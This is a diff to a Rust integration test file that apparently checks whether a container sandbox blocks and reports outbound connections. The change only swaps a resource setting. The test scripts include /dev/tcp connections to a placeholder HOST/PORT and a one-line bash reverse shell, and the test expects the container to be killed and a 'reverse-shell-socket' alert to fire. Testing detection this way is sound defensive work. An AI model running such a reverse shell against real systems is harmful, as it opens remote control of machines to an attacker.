@@ -14,7 +14,7 @@ use std::time::Duration;
 
 use coi_tests::incus::Foreign;
 use coi_tests::{
-    Attacker, Coi, DEADLINE, DEFAULT, Daemon, Running, TINY, actions, alerts, end, eventually, incus, program,
+    Attacker, Coi, DEADLINE, Daemon, Running, SMALL, TINY, actions, alerts, end, eventually, incus, program,
 };
 use nix::sys::ptrace;
 use nix::sys::signal::Signal;
@@ -340,7 +340,7 @@ fn every_answer_is_given_in_its_sandbox() {
     coi.write("severed", "");
     let script = "exec 2>&1; (exec 3<>/dev/tcp/HOST/9999); bash -c ': <ended; sleep 1000'; echo ended $?; \
                   : <severed; until (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -q 'not permitted'; do :; done; echo severed";
-    let ended = coi.run(DEFAULT, &["bash", "-c", &attacker.fill(script)]).expect(0);
+    let ended = coi.run(SMALL, &["bash", "-c", &attacker.fill(script)]).expect(0);
     let said = ended.text();
     assert!(said.contains("Operation not permitted") && said.ends_with("ended 137\nsevered\n"), "{said}");
     let done: Vec<_> = actions(&coi.audit(&coi.container()));
@@ -348,7 +348,7 @@ fn every_answer_is_given_in_its_sandbox() {
     let wanted = wanted.map(|(rule, action)| (rule.to_owned(), action.to_owned(), "success".to_owned()));
     assert_eq!(done, wanted);
 
-    let ended = coi.run(DEFAULT, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
+    let ended = coi.run(SMALL, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
     let killed = ended.expect(137);
     assert!(killed.stderr.contains("rule reverse-shell-socket (critical)"), "{}", killed.stderr);
     let name = coi.container();
